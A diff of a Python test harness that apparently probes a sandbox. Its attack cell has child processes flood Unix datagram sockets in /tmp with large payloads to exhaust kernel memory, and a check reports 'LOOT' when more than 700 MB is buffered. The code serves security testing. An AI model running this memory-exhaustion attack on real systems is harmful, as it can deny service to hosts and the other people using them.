@@ -19,21 +19,25 @@ for child in range(10):
                 with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
                     total += sender.sendto(bytes(200_000), f"/tmp/{child}-{number}")
         os.write(write, total.to_bytes(8, "little"))
-        time.sleep(9)
+        time.sleep(12)
         os._exit(0)
-time.sleep(1.5)
-"""
-WAIT = """
 time.sleep(1.5)
 """
 TELL = """
 os.set_blocking(read, False)
-data = os.read(read, 99)
+data = b""
+end = time.time() + 9
+while len(data) < 80 and time.time() < end:
+    time.sleep(0.1)
+    try:
+        data += os.read(read, 99)
+    except BlockingIOError:
+        pass
 total = sum(int.from_bytes(data[at : at + 8], "little") for at in range(0, len(data), 8)) >> 20
 if total > 700:
     raise Exception(f"LOOT {total} MB in datagrams")
 """
-ATTACK = Attack(first=[CELL, WAIT, TELL])
+ATTACK = Attack(first=[CELL, TELL])
 
 
 def won(evidence: Evidence) -> bool:
